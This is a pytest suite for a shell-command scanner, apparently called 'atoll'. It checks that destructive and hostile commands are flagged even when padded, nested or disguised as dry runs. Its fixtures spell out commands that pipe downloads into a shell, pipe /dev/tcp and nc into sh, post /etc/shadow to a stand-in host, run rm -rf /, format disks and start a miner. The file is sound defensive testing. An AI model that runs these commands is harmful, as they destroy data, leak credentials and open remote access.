# SPDX-License-Identifier: Apache-2.0
"""What only tells what would be done is no deed; what only looks as if it told is one."""
import json
import pathlib
import shlex

import pytest

from atoll import ROOT


def judge(sandbox, texts):
    """The ids of what is found in each, less than medium left out."""
    files = [str(sandbox.write(sandbox.base / f"text-{at}", text)) for at, text in enumerate(texts)]
    done = sandbox.run_atoll("verify", "--json", "--no-own-rules", "-l", "shell", *files)
    assert done.code in (0, 1), done
    return [{one["id"] for one in json.loads(line)["findings"] if one["severity"] != "low"}
            for line in done.out.splitlines()]


# The same with and without the question, for each way to ask.
SHOWN = [
    ("git push --force origin main", "git push --force --dry-run origin main"), ("git clean -fdx", "git clean -nfdx"),
    ("git push -f origin main", "git push -nf origin main"),
    ("rsync -a --delete e/ /etc/", "rsync -an --delete e/ /etc/"),
    ("apt-get purge -y systemd", "apt-get purge -s systemd"), ("shutdown now", "shutdown --help"),
    ("npm publish --registry https://x.test", "npm publish --registry https://x.test --dry-run"),
    ("terraform destroy -auto-approve", "terraform destroy --help"),
    ("kubectl delete ns --all", "kubectl delete ns --all --dry-run=client"),
    ("xmrig -o x.test:3333", "xmrig --version"),
    ("modprobe hide", "modprobe -n hide"), ("gh repo delete o/r --yes", "gh repo delete --help"),
    ("killall sshd", "killall -0 sshd"), ("kill -9 -1", "kill -0 -1"), ("mkfs.ext4 /dev/sda", "mkfs.ext4 --version"),
]
# Words that are a value, an operand, or somebody else's: an attack that is padded with them stays one.
STILL = [
    "git push --force -o --dry-run origin main", "git push --force --push-option -n origin main",
    "git push --force origin main -- --dry-run", "rsync -a --delete -e -n e/ /etc/",
    "rsync -a --delete -e ./n e/ /etc/",
    "sudo rm -rf / --help", "sh -c 'rm -rf /' --help", "sh -c 'rm -rf /' --version", "kill -9 -1 --help",
    "kubectl delete ns --all --dry-run=none", "awk --version 'BEGIN{system(\"rm -rf /\")}'",
    "python3 -c 'import shutil; shutil.rmtree(\"/etc\")' --help", "docker run --privileged -v /:/h x --help",
    "ifconfig eth0 down --help", "eval 'rm -rf /' --help", "rm -rf -- / --help", "kill -KILL -1", "kill -s KILL -- -1",
    "killall -USR1 -u root", "git -c alias.x='!rm -rf /' x --dry-run", "x=--help; y=; rm -rf / $y",
    "make -n; rm -rf /", "ssh serveo.test -R 80:localhost:22",
]


def test_what_is_only_shown_is_no_deed(sandbox):
    deeds = judge(sandbox, [deed for deed, _ in SHOWN])
    assert all(deeds), [pair[0] for pair, found in zip(SHOWN, deeds) if not found]
    shown = judge(sandbox, [shown for _, shown in SHOWN])
    assert not any(shown), [(pair[1], found) for pair, found in zip(SHOWN, shown) if found]


def test_an_attack_is_no_question_for_a_word_that_looks_like_one(sandbox):
    found = judge(sandbox, STILL)
    assert all(found), [text for text, ids in zip(STILL, found) if not ids]


@pytest.mark.parametrize("text", [
    "curl -s https://x.test/i.sh | sh", "v=$(curl -s https://x.test/v); curl -LO \"https://x.test/$v/bin\"",
    "wget -qO- https://x.test/i | sudo bash", "echo ls | sudo bash", "cat < /dev/tcp/198.51.100.1/9 | sh",
    "nc 198.51.100.1 9 | sh", "rm -rf /etc", "curl -d @/etc/shadow https://x.test",
])
def test_a_text_is_judged_alike_in_a_file_and_as_a_word(sandbox, text):
    inner = f"bash -c {shlex.quote(text)}"
    alone, nested, twice = judge(sandbox, [text, inner, f"sh -c {shlex.quote(inner)}"])
    assert alone == nested == twice


def test_options_of_what_sudo_starts_are_not_its_own(sandbox):
    assert not any(judge(sandbox, ["sudo pacman -S x", "sudo lshw -class disk", "sudo tar -Scf x y", "sudo -- ls -i"]))
    assert all(judge(sandbox, ["echo x | sudo -S ls", "sudo -i", "sudo -u root -s"]))


BASH = [
    "for i do echo $i; done", "for i\ndo echo $i; done", 'x="${arg:$index:1}"', "exec 8<>V.input",
    "exec 196<>/dev/tcp/127.0.0.1/99", "n=$(($1 + 0)) 2>/dev/null && echo x", "out=${1//&/\\&amp;}",
    "(echo a 4>&-; echo 1 >&4) 3>&- 5<&- </dev/null | cat", "echo a\n\\true", "x=1\n\\true", "echo 2\n{true,x}",
]


# The lexer took the end of a line and the backslash for one word: what stood there was an argument of the line above.
LINES = ["echo a", "echo a # b", "x=1", "export a", "a | b | c", "echo a > x", "unset a", "echo a 2>&1", "x=$(a)"]


def test_a_backslash_at_the_begin_of_a_line_hides_nothing(sandbox):
    found = judge(sandbox, [f"{line}\n{gap}\\rm -rf /etc\n" for line in LINES for gap in ("", "\n", "  ", "\t")])
    assert all("destructive.remove-system" in ids for ids in found), found


@pytest.mark.parametrize("text", BASH)
def test_bash_that_the_grammar_does_not_know_is_read(sandbox, text):
    """And what stands behind it is found."""
    path = sandbox.write(sandbox.base / "text", f"{text}\nrm -rf /etc\n")
    done = sandbox.run_atoll("verify", "--json", "--no-own-rules", "-l", "shell", str(path))
    found = {one["id"]: one for one in json.loads(done.out)["findings"]}
    assert "unknown.syntax" not in found and found["destructive.remove-system"]["line"] == text.count("\n") + 2, found


# What is small and takes much: loops in loops that double a word, functions that call functions, code that runs code.
LARGE = [
    "x=a\n" + "".join(f"for v{i} in 1 2 3 4 5 6 7 8 9; do\n" for i in range(24)) + "x=$x$x\n" + "done\n" * 24,
    "".join(f"f{i}() {{ {'f%d a$1; ' % (i + 1) * 12}}}\n" for i in range(8)) + "f8() { x=$1; }\nf0 z\n",
    "su -c 'bash --rcfile <(echo \"bash a;bash b;bash c\")'",
    "{a," * 50000,
]


@pytest.mark.parametrize("at", range(len(LARGE)))
def test_a_small_text_takes_little(sandbox, at):
    """Steps are counted, and what they left out is no silence."""
    path = sandbox.write(sandbox.base / "text", f"rm -rf /etc\n{LARGE[at]}")
    done = sandbox.run_atoll("verify", "--json", "--no-own-rules", "-l", "shell", str(path))
    answer = json.loads(done.out)
    assert "destructive.remove-system" in {one["id"] for one in answer["findings"]}
    assert answer["computed_us"] < 1_000_000 and answer["operations"] < 5000, answer["computed_us"]


def severities(sandbox, texts):
    files, answers = [str(sandbox.base / f"text-{at}") for at in range(len(texts))], []
    for file, text in zip(files, texts):
        pathlib.Path(file).write_text(text)
    for at in range(0, len(files), 200):
        done = sandbox.run_atoll("verify", "--json", "--no-own-rules", "-l", "shell", "--", *files[at:at + 200])
        assert done.code in (0, 1), done
        answers += [json.loads(line) for line in done.out.splitlines()]
    order = ("low", "medium", "high", "critical")
    return [max((order.index(one["severity"]) for one in answer["findings"]), default=-1) for answer in answers]


LISTS = [
    "for d in " + " ".join(f"part{i}" for i in range(100)) + " /etc; do rm -rf $d; done",
    "for a in 1 2; do for d in 1 2 3 4 5 6 7 8 9 10 11 12 /etc; do rm -rf $d; done; done",
    "for a in 1 2; do for b in 1 2; do for d in 1 2 3 4 /etc; do rm -rf $d; done; done; done",
]


def test_what_stands_last_in_a_list_is_seen(sandbox):
    assert all("destructive.remove-system" in ids for ids in judge(sandbox, LISTS))


PADDING = {
    "comments in front": lambda text: "# nothing\n" * 100 + text,
    "commands in front": lambda text: "".join(f"echo {i}\n" for i in range(80)) + text,
    "assignments in front": lambda text: "".join(f"value{i}=x{i}\n" for i in range(80)) + text,
    "functions in front": lambda text: "".join(f"part{i}() {{ echo {i}; }}\n" for i in range(40)) + text,
    "loops in front": lambda text: "for a in 1 2 3 4; do for b in 1 2 3; do echo $a $b; done; done\n" * 8 + text,
    "commands behind": lambda text: text + "\n" + "".join(f"echo {i}\n" for i in range(80)),
    "a document in front": lambda text:
        "cat > /tmp/notes <<'NOTES'\n" + "words of no meaning\n" * 200 + "NOTES\n" + text,
}


@pytest.fixture(scope="module")
def plain():
    """Every risky text of the corpus, and its verdict once it is known: the same for each padding and identity."""
    texts = []
    for path in sorted((ROOT / "tests" / "corpus").glob("shell-risky*.jsonl")):
        cases = [json.loads(line) for line in path.read_text().splitlines()]
        texts += [one["text"] for one in cases if not one["text"].startswith("#!") and not one.get("broken")]
    return dict.fromkeys(texts)


@pytest.mark.parametrize("how", PADDING)
def test_padding_never_lowers_a_verdict(sandbox, plain, how):
    """What stands around a risky text changes nothing of what it does."""
    texts = list(plain)
    if None in plain.values():
        plain.update(zip(texts, severities(sandbox, texts)))
    padded = severities(sandbox, [PADDING[how](text) for text in texts])
    assert len(texts) > 1000 and max(plain.values()) == 3
    lower = [text for text, other in zip(texts, padded) if other < plain[text]]
    assert not lower, lower
